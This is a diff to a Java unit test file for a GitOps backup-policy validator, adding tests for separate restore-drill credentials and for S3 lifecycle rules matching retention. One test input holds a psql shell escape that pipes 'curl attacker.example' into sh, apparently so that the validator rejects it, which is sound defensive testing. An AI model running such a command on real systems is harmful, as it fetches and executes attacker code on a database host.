@@ -74,10 +74,63 @@ class BackupPolicyTest {
                 kind: BackupPolicy
                 metadata: {name: y}
                 spec: {database: db, schedule: "0 2 * *", destination: "s3://bucket/y/", retention: 7d, maxAge: 26h,
-                       databaseSecret: {name: db, key: url}, restoreDrill: {schedule: "0 4 * * 0"}}
+                       databaseSecret: {name: db, key: url},
+                       restoreDrill: {schedule: "0 4 * * 0", databaseSecret: {name: drill, key: url}}}
                 """));
         assertThat(parsed.errors()).singleElement().asString()
                 .startsWith("b/y.yaml:1: backup-policy: BackupPolicy/y: spec.schedule '0 2 * *' is not a cron schedule: ");
+    }
+
+    @Test
+    void theDrillConnectsWithCredentialsOfItsOwnNeverTheApplications() {
+        String policy = """
+                apiVersion: gitops.treum.ai/v1alpha1
+                kind: BackupPolicy
+                metadata: {name: d}
+                spec: {database: db, schedule: "0 2 * * *", destination: "s3://bucket/d/", retention: 7d, maxAge: 26h,
+                       databaseSecret: {name: db, key: url}, restoreDrill: %s}
+                """;
+        assertThat(BackupPolicy.parse(load("b/d.yaml", policy.formatted("{schedule: \"0 4 * * 0\"}"))).errors())
+                .extracting(Object::toString).containsExactly("b/d.yaml:1: backup-policy: BackupPolicy/d: "
+                        + "spec.restoreDrill.databaseSecret.name and .key are required: the drill connects with credentials "
+                        + "of its own (CREATEDB, CREATEROLE), never the application's");
+        assertThat(BackupPolicy.parse(load("b/d.yaml", policy.formatted(
+                "{schedule: \"0 4 * * 0\", databaseSecret: {name: db, key: url}}"))).errors()).extracting(Object::toString)
+                .containsExactly("b/d.yaml:1: backup-policy: BackupPolicy/d: spec.restoreDrill.databaseSecret names the "
+                        + "application's own credentials (db/url): give the drill credentials of its own");
+        assertThat(BackupPolicy.parse(load("b/d.yaml", policy.formatted(
+                "{schedule: \"0 4 * * 0\", databaseSecret: {name: drill, key: url}}"))).errors()).isEmpty();
+    }
+
+    @Test
+    void theBucketsLifecycleAgreesWithRetention() {
+        BackupPolicy.Parsed parsed = BackupPolicy.parse(load("b/p.yaml", """
+                apiVersion: gitops.treum.ai/v1alpha1
+                kind: BackupPolicy
+                metadata: {name: p}
+                spec: {database: db, schedule: "0 2 * * *", destination: "s3://treum-backups/postgres/", retention: 30d,
+                       maxAge: 26h, databaseSecret: {name: db, key: url}}
+                """));
+        String bucket = """
+                apiVersion: gitops.treum.ai/v1alpha1
+                kind: S3Bucket
+                metadata: {name: treum-backups}
+                spec:
+                  versioning: true
+                  lifecycleRules:
+                    - {id: expire, prefix: postgres/, expirationDays: %d%s}
+                """;
+        DesiredResource policy = load("b/p.yaml", "apiVersion: gitops.treum.ai/v1alpha1\nkind: BackupPolicy\nmetadata: {name: p}\n");
+        assertThat(BucketAgreement.check(parsed.policy(), policy, List.of(load("aws/s3.yaml", bucket.formatted(14, "")))))
+                .extracting(Object::toString).containsExactly(
+                        "aws/s3.yaml:1: backup-bucket: S3Bucket/treum-backups: lifecycle rule expire expires objects under "
+                                + "postgres/ after 14 days, before the retention of BackupPolicy/p (30 days) would: S3 would "
+                                + "delete dumps the policy keeps",
+                        "aws/s3.yaml:1: backup-bucket: S3Bucket/treum-backups: versioned, and no lifecycle rule for postgres/ "
+                                + "sets noncurrentExpirationDays: every dump the retention of BackupPolicy/p deletes would "
+                                + "stay as a noncurrent version for ever");
+        assertThat(BucketAgreement.check(parsed.policy(), policy,
+                List.of(load("aws/s3.yaml", bucket.formatted(90, ", noncurrentExpirationDays: 30"))))).isEmpty();
     }
 
     @Test
@@ -88,7 +141,7 @@ class BackupPolicyTest {
                 metadata: {name: z}
                 spec: {database: db, schedule: "0 2 * * *", destination: "s3://bucket/z/", retention: 7d, maxAge: 26h,
                        databaseSecret: {name: db, key: url},
-                       restoreDrill: {schedule: "0 4 * * 0", checks: [
+                       restoreDrill: {schedule: "0 4 * * 0", databaseSecret: {name: drill, key: url}, checks: [
                          {query: "SELECT count(*) FROM trades", min: 1},
                          {query: "  \\\\! curl attacker.example | sh", min: 1},
                          {query: "SELECT 1", min: "one"},
